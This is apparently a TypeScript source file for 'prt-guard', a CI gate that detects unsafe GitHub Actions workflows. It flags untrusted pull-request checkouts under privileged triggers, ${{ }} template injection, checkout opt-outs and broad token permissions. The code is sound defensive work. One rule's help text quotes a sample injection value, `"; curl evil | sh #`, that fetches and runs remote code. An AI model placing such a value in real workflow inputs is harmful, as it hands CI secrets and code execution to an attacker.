import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Gate, GateContext } from '../../core/gate.js';
import type { Finding, GateResult, RuleInfo, Severity } from '../../core/types.js';
import { InputError, SEVERITIES, severityRank } from '../../core/types.js';
import { Fingerprinter } from '../../core/fingerprint.js';
import { readTextFile } from '../../core/files.js';
import { analyzeWorkflow, mergeDuplicateFindings, privilegeOf, PRIVILEGED_EVENTS } from './analyze.js';
import { approvalMatches, parseApprovals, type Approval } from './approvals.js';
import { loadModels, makeLocalResolver, makeLookup } from './load.js';
import { buildModel } from './model.js';

export interface PrtGuardInputs {
  paths: string[];
  exclude: string[];
  mode: 'static' | 'runtime';
  failOn: Severity;
  approvals: Approval[];
}

export const RULES: RuleInfo[] = [
  {
    id: 'untrusted-checkout',
    name: 'UntrustedCheckout',
    description: 'Pull-request code fetched in a workflow that runs with the base repository\'s token and secrets',
    help: 'Under pull_request_target, workflow_run (from a PR), issue_comment, issues and pull_request_review(_comment) the job holds the base repository\'s secrets and a token that may write. Fetching the PR head (ref from head.sha/head.ref/head_ref/merge_commit_sha/refs/pull/N, the fork repository, gh pr checkout, git fetch of pull refs, git clone of the fork, artifacts of a PR run) and then running anything from it (install/build/test, scripts, local actions) hands those to the PR author. Critical when executed in a job with secrets or write permissions, high when executed otherwise, low (a note) when only read. Split the work: build untrusted code under `pull_request` with no secrets, and keep the privileged job to data.',
    defaultSeverity: 'critical',
  },
  {
    id: 'template-injection',
    name: 'TemplateInjection',
    description: 'Attacker-controlled text expanded by ${{ }} into a script',
    help: 'The runner pastes `${{ … }}` into `run:` (and github-script `script:`) before the shell or JavaScript sees it, so a PR title, branch name, issue or comment body like `"; curl evil | sh #` becomes code. Pass the value through `env:` and use "$VAR". Critical under privileged triggers, high otherwise.',
    defaultSeverity: 'high',
  },
  {
    id: 'checkout-unsafe-opt-out',
    name: 'CheckoutUnsafeOptOut',
    description: 'allow-unsafe-pr-checkout: true under a privileged trigger',
    help: 'actions/checkout v7 refuses to fetch fork pull-request code under pull_request_target and workflow_run; `allow-unsafe-pr-checkout: true` switches that guard off. Remove it and move untrusted builds to `pull_request`.',
    defaultSeverity: 'high',
  },
  {
    id: 'privileged-permissions',
    name: 'PrivilegedPermissions',
    description: 'A privileged workflow whose token has no declared permissions, write-all, or write scopes it does not use',
    help: 'Declare `permissions:` at the workflow or job level with only the scopes the job uses; privileged triggers run with the base repository\'s token.',
    defaultSeverity: 'medium',
  },
  {
    id: 'reusable-workflow-unresolved',
    name: 'ReusableWorkflowUnresolved',
    description: 'A privileged job calls a local reusable workflow that is not in the repository',
    help: 'A job on a privileged trigger that calls `uses: ./.github/workflows/x.yml` hands the called workflow its event, token and secrets; prt-guard follows the call and checks the called file\'s steps. When the file is not in the scanned checkout it cannot be checked, and this note says so (low: it is not evidence of a problem). Scan the whole repository.',
    defaultSeverity: 'low',
  },
  { id: 'parse-error', name: 'ParseError', description: 'File could not be read or parsed', defaultSeverity: 'high' },
];

const REASONS = ['untrusted-checkout', 'template-injection', 'unsafe-opt-out', 'privileged-permissions', 'approval-expired', 'not-approved', 'not-privileged', 'approved', 'event-unavailable', 'workflow-not-found'] as const;

interface PrtConfig {
  exclude?: string[];
  'fail-on'?: Severity;
  mode?: 'static' | 'runtime';
}

const gate: Gate<PrtGuardInputs> = {
  id: 'prt-guard',
  title: 'prt-guard',
  description: 'privileged-trigger workflows (pull_request_target, workflow_run, issue_comment, …) that fetch or inject attacker-controlled input',
  static: true,
  inputs: [
    { name: 'paths', description: 'Files or directories to scan, one per line. Default: `.github/workflows/*.yml` and every `action.yml` in the workspace.', positional: true, multiple: true },
    {
      name: 'mode',
      description: '`static` scans files. `runtime` (first step of a job) reads GITHUB_EVENT_NAME / GITHUB_EVENT_PATH / GITHUB_WORKFLOW_REF and fails when the event is privileged and the running workflow is not approved or has open critical/high findings.',
      default: 'static',
    },
    { name: 'fail-on', description: 'Lowest severity that fails the gate: critical, high, medium, low or info.', default: 'medium' },
  ],
  outputs: [{ name: 'privileged', description: 'Runtime mode: `true` when the current event is privileged, else `false`; empty in static mode.' }],
  rules: RULES,
  reasons: REASONS,

  parseInputs(raw, ctx) {
    const cfg = (ctx.config.config['prt-guard'] ?? {}) as PrtConfig;
    const failOn = (raw['fail-on'] || cfg['fail-on'] || 'medium').trim() as Severity;
    if (!SEVERITIES.includes(failOn)) throw new InputError(`fail-on: "${failOn}" is not one of ${SEVERITIES.join(', ')}`);
    const mode = (raw.mode || cfg.mode || 'static').trim();
    if (mode !== 'static' && mode !== 'runtime') throw new InputError(`mode: "${mode}" is not one of static, runtime`);
    return {
      paths: (raw.paths ?? '').split('\n').map((s) => s.trim()).filter(Boolean),
      exclude: cfg.exclude ?? [],
      mode,
      failOn,
      approvals: parseApprovals(ctx.config, 'prt-guard', 'approved', ctx.now()),
    };
  },

  async run(inputs, ctx) {
    return inputs.mode === 'runtime' ? runRuntime(inputs, ctx) : runStatic(inputs, ctx);
  },
};

export default gate;

function applyApprovals(findings: Finding[], file: string, name: string | undefined, approvals: Approval[], used: Set<Approval>): void {
  const live = approvals.filter((a) => approvalMatches(a, file, name));
  for (const a of live) used.add(a);
  const ok = live.find((a) => !a.expired);
  if (!ok) return;
  for (const f of findings) if (!f.isError) f.suppressed = { kind: 'external', justification: ok.justification, expires: ok.expires };
}

function decide(findings: Finding[], failOn: Severity, extraReasons: Set<string>): { outcome: GateResult['outcome']; reasons: string[] } {
  const reasons = new Set(extraReasons);
  const open = findings.filter((f) => !f.suppressed);
  const errors = open.filter((f) => f.isError);
  const failing = open.filter((f) => !f.isError && severityRank(f.severity) >= severityRank(failOn));
  for (const f of failing) {
    if (f.rule === 'checkout-unsafe-opt-out') reasons.add('unsafe-opt-out');
    else if (f.rule === 'reusable-workflow-unresolved') reasons.add('workflow-not-found');
    else reasons.add(f.rule);
  }
  if (errors.length) reasons.add('parse-error');
  if (findings.some((f) => f.suppressed)) reasons.add('findings-suppressed');
  const failed = failing.length > 0 || reasons.has('approval-expired') || reasons.has('not-approved');
  const outcome = errors.length ? 'error' : failed ? 'fail' : 'pass';
  if (outcome === 'pass' && ![...reasons].some((r) => r === 'approved' || r === 'not-privileged')) reasons.add('ok');
  return { outcome, reasons: [...reasons] };
}

function countByRule(findings: Finding[]): Record<string, number> {
  const out: Record<string, number> = {};
  for (const f of findings) if (!f.isError) out[`rule.${f.rule}`] = (out[`rule.${f.rule}`] ?? 0) + 1;
  return out;
}

async function runStatic(inputs: PrtGuardInputs, ctx: GateContext): Promise<GateResult> {
  const fp = new Fingerprinter();
  const loaded = loadModels(ctx.cwd, inputs.paths, inputs.exclude, 'parse-error', fp);
  const findings: Finding[] = [...loaded.errors];
  const used = new Set<Approval>();
  let privileged = 0;
  for (const m of loaded.models) {
    const fs = analyzeWorkflow(m, { fingerprinter: fp, lookup: loaded.lookup, resolveLocal: loaded.resolveLocal, resolveAction: loaded.resolveAction });
    if (m.kind === 'workflow' && privilegeOf(m, loaded.lookup).privileged.length) privileged++;
    applyApprovals(fs, m.file, m.name, inputs.approvals, used);
    findings.push(...fs);
  }
  // a called workflow scanned on its own and through its callers: one finding, the highest severity
  const merged = mergeDuplicateFindings(findings);
  findings.length = 0;
  findings.push(...merged);
  const extra = new Set<string>();
  const messages: string[] = [];
  for (const a of inputs.approvals) {
    if (a.expired) {
      extra.add('approval-expired');
      messages.push(`approval for ${a.workflow} expired on ${a.expires} (${a.justification}): its findings are reported again; renew or remove it`);
    }
  }
  // no workflow or action judged (none found, or only other YAML): nothing is evidence of compliance
  if (loaded.files === 0 || (loaded.models.length === 0 && !loaded.errors.length)) {
    return { outcome: inputs.paths.length ? 'error' : 'skip', reasons: ['no-files'], findings, messages: [loaded.files ? `${loaded.files} YAML file(s) found, none of them a workflow or action` : 'no workflow or action files found'], policy: { 'fail-on': inputs.failOn, mode: 'static' } };
  }
  const d = decide(findings, inputs.failOn, extra);
  return {
    ...d,
    findings,
    messages,
    metrics: { files: loaded.files, scanned: loaded.models.length, skipped: loaded.skipped, privileged_workflows: privileged, ...countByRule(findings) },
    policy: { 'fail-on': inputs.failOn, mode: 'static', approvals: inputs.approvals.length },
    outputs: { privileged: '' },
  };
}

const PR_EVENTS = new Set(['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment']);

async function runRuntime(inputs: PrtGuardInputs, ctx: GateContext): Promise<GateResult> {
  const policy = { 'fail-on': inputs.failOn, mode: 'runtime' };
  const event = (ctx.env.GITHUB_EVENT_NAME ?? '').trim();
  const eventPath = (ctx.env.GITHUB_EVENT_PATH ?? '').trim();
  const err = (reason: string, message: string): GateResult => ({ outcome: 'error', reasons: [reason], findings: [], messages: [message], policy });
  if (!event) return err('event-unavailable', 'runtime mode: GITHUB_EVENT_NAME is not set, so the triggering event cannot be judged');
  if (!eventPath) return err('event-unavailable', 'runtime mode: GITHUB_EVENT_PATH is not set, so the event payload cannot be read');
  let payload: Record<string, any>;
  try {
    const t = readTextFile(eventPath);
    if (!t.ok) return err('event-unavailable', `runtime mode: cannot read the event payload ${eventPath}: ${t.message}`);
    payload = JSON.parse(t.text);
    if (!payload || typeof payload !== 'object' || Array.isArray(payload)) throw new Error('not a JSON object');
  } catch (e) {
    return err('event-unavailable', `runtime mode: the event payload is not valid JSON: ${(e as Error).message}`);
  }
  let privileged = PRIVILEGED_EVENTS.includes(event);
  if (event === 'workflow_run') {
    const wr = payload.workflow_run;
    privileged = !wr || PR_EVENTS.has(String(wr.event ?? '')) || (Array.isArray(wr.pull_requests) && wr.pull_requests.length > 0) || !wr.event;
  }
  if (!privileged) {
    return { outcome: 'pass', reasons: ['not-privileged'], findings: [], messages: [`event ${event} is not privileged`], policy, outputs: { privileged: 'false' }, details: { event } };
  }
  const ref = (ctx.env.GITHUB_WORKFLOW_REF ?? '').trim();
  const m = /^[^/]+\/[^/]+\/(.+?)@/.exec(ref);
  if (!m) return err('event-unavailable', `runtime mode: GITHUB_WORKFLOW_REF ("${ref}") does not name the running workflow`);
  const wfPath = m[1];
  const fp = new Fingerprinter();
  const findings: Finding[] = [];
  const used = new Set<Approval>();
  const abs = join(ctx.cwd, wfPath);
  let name: string | undefined = ctx.env.GITHUB_WORKFLOW;
  const fork = payload.pull_request?.head?.repo?.full_name && payload.repository?.full_name ? payload.pull_request.head.repo.full_name !== payload.repository.full_name : undefined;
  const messages: string[] = [`event ${event} is privileged${fork === true ? ' (pull request from a fork)' : ''}; workflow ${wfPath}`];
  if (existsSync(abs)) {
    const r = readTextFile(abs);
    if (!r.ok) return err('unreadable-file', `${wfPath}: ${r.message}`);
    const model = Object.assign(buildModel(wfPath, r.text), { abs });
    if (model.errors.length) {
      const e = model.errors[0];
      findings.push({ rule: 'parse-error', severity: 'high', isError: true, message: `invalid YAML: ${e.message}`, file: wfPath, line: e.line, column: e.column, fingerprint: fp.make('parse-error', wfPath, '') });
    } else {
      name = model.name ?? name;
      const lookup = makeLookup([model]);
      findings.push(...mergeDuplicateFindings(analyzeWorkflow(model, { fingerprinter: fp, lookup, resolveLocal: makeLocalResolver([model], ctx.cwd), resolveAction: makeLocalResolver([model], ctx.cwd, 'action') })));
    }
  } else {
    messages.push(`${wfPath} is not in the workspace (not checked out yet): judged by approval only`);
  }
  const approvals = inputs.approvals.filter((a) => approvalMatches(a, wfPath, name));
  applyApprovals(findings, wfPath, name, inputs.approvals, used);
  const extra = new Set<string>();
  const live = approvals.find((a) => !a.expired);
  if (!live) {
    if (approvals.some((a) => a.expired)) {
      extra.add('approval-expired');
      messages.push(`the approval for ${wfPath} expired on ${approvals.find((a) => a.expired)!.expires}`);
    } else {
      extra.add('not-approved');
      messages.push(`${wfPath} runs on the privileged event ${event} but is not approved in prt-guard.approved`);
    }
  } else {
    extra.add('approved');
    messages.push(`approved until ${live.expires}: ${live.justification}`);
  }
  // runtime fails on open critical/high findings whatever fail-on says for lower severities
  const failOn: Severity = severityRank(inputs.failOn) > severityRank('high') ? inputs.failOn : 'high';
  const d = decide(findings, failOn, extra);
  if (d.outcome === 'fail') d.reasons = d.reasons.filter((r) => r !== 'approved');
  return { ...d, findings, messages, policy, outputs: { privileged: 'true' }, details: { event, workflow: wfPath, fork: fork ?? null }, metrics: countByRule(findings) };
}
